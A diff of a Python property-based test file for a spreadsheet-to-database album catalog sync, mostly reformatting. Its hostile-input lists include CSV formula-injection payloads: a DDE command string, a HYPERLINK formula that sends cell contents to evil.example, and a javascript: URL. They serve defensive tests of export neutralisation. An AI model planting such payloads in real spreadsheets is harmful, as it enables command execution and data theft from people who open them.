@@ -57,7 +57,7 @@ def astral_text(n: int, seed: int) -> str:
 
 HOSTILE = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+SUM(1,2)",
     "-2+3",
     "@SUM(A1:A2)",
@@ -75,7 +75,7 @@ HOSTILE = [
     "🤘 Metal 🤘",
     "line one\nline two",
     "  padded  ",
-    "\"quoted, with comma\"",
+    '"quoted, with comma"',
     "x" * 50_000,
     "Ω" * 50_000,
     astral_text(500, 1),  # 2,000 bytes: two of these overflow PostgreSQL's index entry
@@ -83,17 +83,47 @@ HOSTILE = [
 ]
 NAMES = ["Opeth", "Ghost", "Mgła", "Sigur Rós", "opeth", "OPETH ", "Björk", "Ghost"]
 DATES = [
-    "2025-03-14", "2025/03/14", "2025.3.4", "14/03/2025", "03/14/2025", "04/05/2025",
-    "14.03.25", "March 14, 2025", "Fri, March 14th, 2025", "14 March 2025", "14th of March 2025",
-    "14-Mar-2025", "Mar 2025", "2025 March", "03/2025", "2025", "20250314", "45730",
-    "45730.5", "Q2 2025", "Summer 2025", "late 2025?", "TBA", "?", "", "2025-02-30",
-    "99/99/9999", "1899-01-01", "0000-00-00", "2025-13-01", "31/31/2031",
+    "2025-03-14",
+    "2025/03/14",
+    "2025.3.4",
+    "14/03/2025",
+    "03/14/2025",
+    "04/05/2025",
+    "14.03.25",
+    "March 14, 2025",
+    "Fri, March 14th, 2025",
+    "14 March 2025",
+    "14th of March 2025",
+    "14-Mar-2025",
+    "Mar 2025",
+    "2025 March",
+    "03/2025",
+    "2025",
+    "20250314",
+    "45730",
+    "45730.5",
+    "Q2 2025",
+    "Summer 2025",
+    "late 2025?",
+    "TBA",
+    "?",
+    "",
+    "2025-02-30",
+    "99/99/9999",
+    "1899-01-01",
+    "0000-00-00",
+    "2025-13-01",
+    "31/31/2031",
 ]
 SPOTIFY = [
-    "", "https://open.spotify.com/album/4uLU6hMCjMI75M1A2tKUQC",
+    "",
+    "https://open.spotify.com/album/4uLU6hMCjMI75M1A2tKUQC",
     "https://open.spotify.com/intl-de/album/4uLU6hMCjMI75M1A2tKUQC?si=abc",
-    "spotify:album:6rqhFgbbKwnb9MLmUQDhG6", "https://open.spotify.com/track/123",
-    "https://example.com/" + "a" * 2000, "not a link", "javascript:alert(1)",
+    "spotify:album:6rqhFgbbKwnb9MLmUQDhG6",
+    "https://open.spotify.com/track/123",
+    "https://example.com/" + "a" * 2000,
+    "not a link",
+    "javascript:alert(1)",
 ]
 # Header texts per field: built-in alias names in assorted spellings.
 HEADERS = {
@@ -114,8 +144,10 @@ def text_cells(extra: list[str]) -> st.SearchStrategy[str]:
     return st.one_of(
         st.sampled_from(extra or [" "]),
         st.sampled_from(HOSTILE),
-        st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
-                 max_size=12),
+        st.text(
+            alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
+            max_size=12,
+        ),
         st.just(""),
     )
 
@@ -130,8 +162,12 @@ class GeneratedSheet:
 
 @st.composite
 def sheets(draw) -> GeneratedSheet:
-    optional = draw(st.lists(st.sampled_from(
-        ["release_date", "genre", "vocal_style", "country", "spotify"]), unique=True))
+    optional = draw(
+        st.lists(
+            st.sampled_from(["release_date", "genre", "vocal_style", "country", "spotify"]),
+            unique=True,
+        )
+    )
     fields = ["artist", "album", *optional]
     labels = {f: draw(st.sampled_from(HEADERS[f])) for f in fields}
     aliases = {}
@@ -143,7 +179,8 @@ def sheets(draw) -> GeneratedSheet:
     columns = {c: i for i, c in enumerate(order) if c in labels}
 
     cell = {
-        "artist": text_cells(NAMES), "album": text_cells(NAMES + ["Album"]),
+        "artist": text_cells(NAMES),
+        "album": text_cells(NAMES + ["Album"]),
         "release_date": st.one_of(st.sampled_from(DATES), text_cells([])),
         "genre": text_cells(["Doom", "doom ", "Black Metal"]),
         "vocal_style": text_cells(["Clean", "Harsh"]),
@@ -170,8 +207,9 @@ def sheets(draw) -> GeneratedSheet:
         if copy and draw(st.booleans()) and "genre" in columns and columns["genre"] < len(copy):
             copy[columns["genre"]] = "Edited"
         data.append(copy)
-    titles = draw(st.lists(st.sampled_from([["Metal releases 2025"], [], ["", "Updated daily"]]),
-                           max_size=2))
+    titles = draw(
+        st.lists(st.sampled_from([["Metal releases 2025"], [], ["", "Updated daily"]]), max_size=2)
+    )
     return GeneratedSheet(titles + [header] + data, len(titles) + 1, columns, aliases)
 
 
@@ -195,17 +233,21 @@ def reset(sync: CatalogSync) -> None:
 def check_sheet_syncs_cleanly(sync: CatalogSync, sheet: GeneratedSheet) -> None:
     status = sync.run_sync("hypothesis")
     assert status.status in (SyncStatus.COMPLETED, SyncStatus.COMPLETED_WITH_WARNINGS), (
-        status.message, status.error)
+        status.message,
+        status.error,
+    )
     errors = {e.sheet_row: e.reason for e in sync.row_errors(status.id)}
     with sync.db.session() as s:
         albums = {a.sheet_row: a for a in s.scalars(select(Album))}
     cols = sheet.columns
-    for number, row in enumerate(sheet.rows[sheet.header_row:], start=sheet.header_row + 1):
+    for number, row in enumerate(sheet.rows[sheet.header_row :], start=sheet.header_row + 1):
         artist, title = cell_of(row, cols["artist"]), cell_of(row, cols["album"])
         filled = [c for c in row if cleaned(c)]
         if artist and title:
-            if (normalize_name(artist) in REPEATED_HEADER_ARTIST
-                    and normalize_name(title) in REPEATED_HEADER_ALBUM):
+            if (
+                normalize_name(artist) in REPEATED_HEADER_ARTIST
+                and normalize_name(title) in REPEATED_HEADER_ALBUM
+            ):
                 continue  # the header repeated: skipped quietly
             assert (number in albums) != (number in errors), f"row {number}: {row!r}"
             if number in albums:
@@ -233,15 +275,23 @@ def check_sheet_syncs_cleanly(sync: CatalogSync, sheet: GeneratedSheet) -> None:
 
 def snapshot(sync: CatalogSync) -> list[tuple]:
     with sync.db.session() as s:
-        return [(a.key, a.content_hash, a.updated_at, a.last_sync_id, a.removed_at, a.sheet_row)
-                for a in s.scalars(select(Album).order_by(Album.id))]
+        return [
+            (a.key, a.content_hash, a.updated_at, a.last_sync_id, a.removed_at, a.sheet_row)
+            for a in s.scalars(select(Album).order_by(Album.id))
+        ]
 
 
 EXAMPLES = 400 if SOAK else 12
 hypothesis_settings = settings(
-    max_examples=EXAMPLES, deadline=None, derandomize=not SOAK, print_blob=True,
-    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
-                           HealthCheck.data_too_large],
+    max_examples=EXAMPLES,
+    deadline=None,
+    derandomize=not SOAK,
+    print_blob=True,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
 )
 
 
@@ -249,8 +299,11 @@ hypothesis_settings = settings(
 @given(sheet=sheets())
 def test_generated_csv_sheets_sync_every_row_or_report_it(database_url, tmp_path, sheet):
     path = write_csv(tmp_path / f"{uuid.uuid4().hex}.csv", sheet.rows[1:], sheet.rows[0])
-    sync = CatalogSync(Settings(database_url=database_url, sheet=str(path),
-                                header_aliases=sheet.aliases, batch_size=3))
+    sync = CatalogSync(
+        Settings(
+            database_url=database_url, sheet=str(path), header_aliases=sheet.aliases, batch_size=3
+        )
+    )
     try:
         reset(sync)
         check_sheet_syncs_cleanly(sync, sheet)
@@ -267,7 +320,7 @@ def hostile_api():
 def with_api_only_cells(sheet: GeneratedSheet, data) -> GeneratedSheet:
     """Cells only the API can carry: NUL and lone surrogates in text."""
     rows = [list(r) for r in sheet.rows]
-    for row in rows[sheet.header_row:]:
+    for row in rows[sheet.header_row :]:
         for i, value in enumerate(row):
             if value and data.draw(st.integers(0, 9)) == 0:
                 row[i] = value + data.draw(st.sampled_from(["\x00", "\ud800", "\udfff x"]))
@@ -277,13 +330,15 @@ def with_api_only_cells(sheet: GeneratedSheet, data) -> GeneratedSheet:
 @settings(hypothesis_settings, max_examples=max(4, EXAMPLES // 4))
 @given(sheet=sheets(), data=st.data())
 def test_generated_sheets_through_the_sheets_api_sync_every_row_or_report_it(
-        sqlite_url, hostile_api, sheet, data):
+    sqlite_url, hostile_api, sheet, data
+):
     from synccore.testing.fake_sheets import FakeWorksheet
 
     sheet = with_api_only_cells(sheet, data)
     hostile_api.add_spreadsheet(SHEET_KEY, [FakeWorksheet("Albums", 0, sheet.rows)])
-    sync = CatalogSync(api_settings(hostile_api.url, sqlite_url, header_aliases=sheet.aliases,
-                                    batch_size=3))
+    sync = CatalogSync(
+        api_settings(hostile_api.url, sqlite_url, header_aliases=sheet.aliases, batch_size=3)
+    )
     try:
         reset(sync)
         check_sheet_syncs_cleanly(sync, sheet)
@@ -299,9 +354,23 @@ def test_soak_runs_the_property_tests_with_many_examples():
 
     env = dict(os.environ, SYNCCORE_SOAK="1")
     result = subprocess.run(
-        [sys.executable, "-m", "pytest", __file__, "-q", "-p", "no:cacheprovider",
-         "-m", "not soak", "--timeout", "3000"],
-        env=env, cwd=Path(__file__).resolve().parents[1], capture_output=True, text=True,
+        [
+            sys.executable,
+            "-m",
+            "pytest",
+            __file__,
+            "-q",
+            "-p",
+            "no:cacheprovider",
+            "-m",
+            "not soak",
+            "--timeout",
+            "3000",
+        ],
+        env=env,
+        cwd=Path(__file__).resolve().parents[1],
+        capture_output=True,
+        text=True,
     )
     assert result.returncode == 0, result.stdout[-5000:] + result.stderr[-2000:]
 
@@ -309,10 +378,21 @@ def test_soak_runs_the_property_tests_with_many_examples():
 # -- text stays text in exports ---------------------------------------------------------------
 
 
-@pytest.mark.parametrize("value", [
-    "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1",
-    "＠SUM(A1)",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=cmd|' /C calc'!A0",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(A1)",
+    ],
+)
 def test_csv_export_neutralises_formula_looking_cells(value):
     from dashboard.rowerrors import neutralise_cell
 
@@ -346,7 +426,8 @@ def test_failed_rows_csv_of_a_hostile_sheet_opens_as_text(sqlite_url, tmp_path):
 
 
 def test_names_too_long_for_the_catalog_index_are_a_row_error_not_a_failed_sync(
-        database_url, tmp_path):
+    database_url, tmp_path
+):
     """500 four-byte characters each for artist and album fit the column limits but not
     PostgreSQL's btree index (2704 bytes): that row must be reported, the rest synced."""
     from .conftest import album
